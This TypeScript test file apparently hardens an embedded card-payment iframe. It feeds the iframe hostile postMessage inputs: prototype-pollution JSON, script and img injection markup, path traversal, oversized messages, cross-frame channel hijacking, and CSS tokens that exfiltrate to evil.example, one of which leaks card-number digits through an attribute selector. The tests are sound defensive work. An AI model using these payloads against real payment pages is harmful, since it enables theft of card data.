import assert from 'node:assert/strict';
import type { Frame } from 'puppeteer-core';
import { CONFIGURE } from '../support/configure.ts';
import { frameAddress, hostilePages, type Attack } from '../support/hostile-pages.ts';

/* The page sends the frame what no page of ours would, and others talk to a frame that is not theirs. */

const holdCard = async ({ scene, hold, send, hear }: Attack): Promise<Frame> => {
  const frame = await hold(scene.shop, frameAddress(scene, 'card', scene.shop));
  await send(CONFIGURE);
  await hear('state');
  return frame;
};

/** The frame still works, and nothing that every object has was changed in it. */
async function assertSound({ send, hear }: Attack, frame: Frame): Promise<void> {
  await send({ type: 'validate', id: 'after' });
  assert.equal((await hear('validated'))['id'], 'after');
  const changed = await frame.evaluate(() =>
    ['polluted', 'type', 'number', 'origin'].filter((name) => name in {}),
  );
  assert.deepEqual(changed, []);
}

/** As JSON, so that `__proto__` is a member like any other. */
const MESSAGES: Readonly<Record<string, string>> = {
  nothing: 'null',
  'a number': '7',
  'a text': '"pay"',
  'a list': '[{"type":"reset"}]',
  'no type': '{}',
  'an unknown type': '{"type":"eval","code":"document.forms[0]"}',
  'the name of what every object has': '{"type":"constructor"}',
  'a type that is a list': '{"type":["pay"]}',
  '__proto__ as a member': '{"type":"configure","__proto__":{"polluted":1}}',
  '__proto__ among the texts': `${JSON.stringify(CONFIGURE).slice(0, -1)},"messages":{"__proto__":{"polluted":"1"},"constructor":{"prototype":{"polluted":"1"}}}}`,
  '__proto__ among the looks': `${JSON.stringify(CONFIGURE).slice(0, -1)},"appearance":{"colorScheme":"light","tokens":{"__proto__":"red","constructor":"red"}}}`,
  'a language that is a path': JSON.stringify({ ...CONFIGURE, locale: '../../v1/checkout' }),
  'a language without end': JSON.stringify({ ...CONFIGURE, locale: 'e'.repeat(100_000) }),
  'markup as texts': JSON.stringify({
    ...CONFIGURE,
    messages: {
      cardNumber: '<img src=x onerror=document.title=1>',
      cardName: '<script>1</script>',
    },
  }),
  'addresses as looks': JSON.stringify({
    ...CONFIGURE,
    appearance: {
      colorScheme: 'light',
      tokens: {
        '--tender-color-surface': 'url(https://evil.example/?a)',
        '--tender-font-family': 'x;}input[value^="4"]{background:url(//evil.example)}',
        '--tender-shadow': 'image-set("https://evil.example/" 1x)',
        '--tender-gap': 'calc(1px*attr(value))',
      },
    },
  }),
  'an unknown field': '{"type":"focus","field":"__proto__"}',
  'a payment without a session': '{"type":"pay","id":"1"}',
  'a payment whose details are a list': '{"type":"pay","id":"1","details":[1]}',
};

hostilePages('hostile messages', (attack) => {
  attack(
    'to the frame change nothing: of wrong shapes, with __proto__, markup, addresses',
    async (by) => {
      const { page, scene } = by;
      const frame = await holdCard(by);
      await frame.$eval('#number', (input) => void ((input as HTMLInputElement).value = '42'));
      for (const text of Object.values(MESSAGES))
        await page.evaluate(`port.postMessage(JSON.parse(${JSON.stringify(text)}))`);
      await assertSound(by, frame);
      assert.equal(
        await frame.$eval('html', ({ innerHTML }) => /<img|evil\.example/.test(innerHTML)),
        false,
      );
      assert.deepEqual(
        scene.asked.filter((path) => !path.startsWith('/frame/')),
        [],
        'nothing but the frame’s own files was asked for',
      );
      assert.equal(
        await frame.$eval('#number', (input) => (input as HTMLInputElement).value),
        '42',
      );
    },
  );

  attack('by the hundred thousand, and one of megabytes, leave the frame usable', async (by) => {
    const frame = await holdCard(by);
    await by.page.evaluate(`
      for (let n = 0; n < 100_000; n++) port.postMessage({ type: 'no' });
      port.postMessage({ type: 'configure', locale: 'x'.repeat(5_000_000) });
    `);
    await assertSound(by, frame);
  });

  attack('a second channel to a frame that has one is not taken', async (by) => {
    const frame = await holdCard(by);
    const answered = await by.page.evaluate(`new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => resolve('answered');
      iframe.contentWindow.postMessage({ tender: 'connect', version: 1, nonce }, '*', [port2]);
      port1.postMessage({ type: 'validate', id: 'second' });
      setTimeout(() => resolve('silent'), 500);
    })`);
    assert.equal(answered, 'silent');
    await assertSound(by, frame);
  });

  attack('a window that is not the frame’s parent gets no channel to it', async (by) => {
    const { page, scene } = by;
    await holdCard(by);
    const got = await page.evaluate(`new Promise((resolve) => {
      const sibling = document.createElement('iframe');
      document.body.append(sibling);
      const script = sibling.contentDocument.createElement('script');
      script.textContent = \`
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = () => parent.postMessage('answered', '*');
        parent.frames.held.postMessage({ tender: 'connect', version: 1, nonce: '\${nonce}' }, '*', [port2]);
        port1.postMessage({ type: 'validate', id: 'sibling' });
      \`;
      addEventListener('message', ({ data }) => data === 'answered' && resolve(data));
      setTimeout(() => resolve('silent'), 500);
      sibling.contentDocument.body.append(script);
    })`);
    assert.equal(got, 'silent');
    assert.ok(scene.asked.length > 0);
  });

  attack(
    'a page of another origin than the frame’s address names hears nothing of it',
    async (by) => {
      const { page, scene, hold } = by;
      await hold(scene.other, frameAddress(scene, 'card', scene.shop));
      await page.evaluate('new Promise((resolve) => setTimeout(resolve, 500))');
      assert.equal(await page.evaluate('port === undefined'), true);
    },
  );
});
